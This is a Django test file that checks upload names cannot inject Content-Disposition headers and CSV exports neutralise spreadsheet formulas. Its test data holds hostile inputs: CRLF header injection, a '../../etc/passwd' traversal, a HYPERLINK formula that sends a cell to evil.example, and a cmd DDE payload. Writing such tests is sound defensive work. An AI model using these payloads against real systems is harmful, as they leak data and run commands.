"""Issue 21 items 5 and 6: download names cannot break out of Content-Disposition (sanitised at
upload, one header builder for every download), and CSV cells cannot run as formulas."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test.client import BOUNDARY, MULTIPART_CONTENT
from django.urls import reverse
from django.utils import timezone

from coaching.analysis.downloads import download_name
from coaching.athletes.services import athlete_create
from coaching.reports.exports import csv_safe_row
from coaching.serving import content_disposition_header
from coaching.videos.models import Video

pytestmark = pytest.mark.django_db


def _params(header: str) -> dict[str, str]:
    """Content-Disposition parameters as a browser splits them (on ; outside quotes)."""
    parts = re.findall(r';\s*([^=;\s]+)=("(?:[^"\\]|\\.)*"|[^;]*)', header)
    names = [name for name, _ in parts]
    assert len(names) == len(set(names)), header  # no injected second filename
    return {name: value.strip('"') for name, value in parts}


def _upload(client, world, name: str, data: bytes) -> Video:
    """A multipart body written by hand, quoting the name as a browser does (a backslash before
    each quote), so the multipart parser hands the view the whole crafted name."""
    quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "%0D").replace("\n", "%0A")
    body = (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
            "Content-Type: video/mp4\r\n\r\n").encode() + data + f"\r\n--{BOUNDARY}--\r\n".encode()
    response = client.generic("POST", reverse("video_upload", args=[world.ann.pk]), body,
                              content_type=MULTIPART_CONTENT)
    assert response.status_code == 201, response.content
    return Video.objects.get(pk=response.json()["id"])


@pytest.mark.parametrize("name", ['coach-notes.html"; x=".mp4', "coach-notes.html%22%3B.mp4",
                                  "../../etc/passwd\r\nX-Evil: 1.mp4", "Прыжок 跳 ünï.mp4"])
def test_crafted_upload_names_download_as_a_video(client, world, make_clip, name: str) -> None:
    client.force_login(world.coach)
    video = _upload(client, world, name, make_clip(frames=12).read_bytes())
    assert '"' not in video.original_name and ";" not in video.original_name
    assert "/" not in video.original_name and "\n" not in video.original_name
    response = client.get(reverse("video_original", args=[video.pk]))
    header = response["Content-Disposition"]
    assert header.startswith("attachment;")
    header.encode("latin-1")  # a non-Latin-1 name used to break the header
    params = _params(header)
    assert params["filename"].endswith(".mp4") and '"' not in params["filename"]
    if "filename*" in params:
        assert params["filename*"].startswith("UTF-8''") and params["filename*"].endswith(".mp4")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "video/mp4"


def test_every_download_uses_the_header_builder(client, world) -> None:
    client.force_login(world.coach)
    response = client.get(reverse("render_file", args=[world.render.pk]))
    assert response["Content-Disposition"] == content_disposition_header(
        download_name(world.analysis, "annotated", ".mp4"))
    csv_response = client.get(reverse("team_dashboard", args=[world.team.pk]), {"format": "csv"})
    today = timezone.localdate().isoformat()
    assert csv_response["Content-Disposition"] == f'attachment; filename="team-a-dashboard-{today}.csv"'


def test_header_forces_the_served_suffix() -> None:
    assert content_disposition_header("notes.html", suffix=".mp4") == 'attachment; filename="notes.mp4"'
    header = content_disposition_header("跳.mp4", suffix=".mp4")
    assert _params(header)["filename*"] == "UTF-8''%E8%B7%B3.mp4"


def test_team_dashboard_csv_neutralises_formulas(client, world) -> None:
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3",
             "@SUM(A1:A9)", "\tTab", "\rReturn"]
    for name in names:
        athlete_create(team=world.team, name=name)
    client.force_login(world.coach)
    response = client.get(reverse("team_dashboard", args=[world.team.pk]), {"format": "csv"})
    cells = [row[0] for row in csv.reader(io.StringIO(response.content.decode(), newline=""))]
    for name in names:
        assert "'" + name in cells, name
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)


def test_numbers_stay_numbers() -> None:
    assert csv_safe_row([-1.5, "-1.5", "1e-3", "=1+1", "", None]) == [-1.5, "-1.5", "1e-3", "'=1+1", "", None]
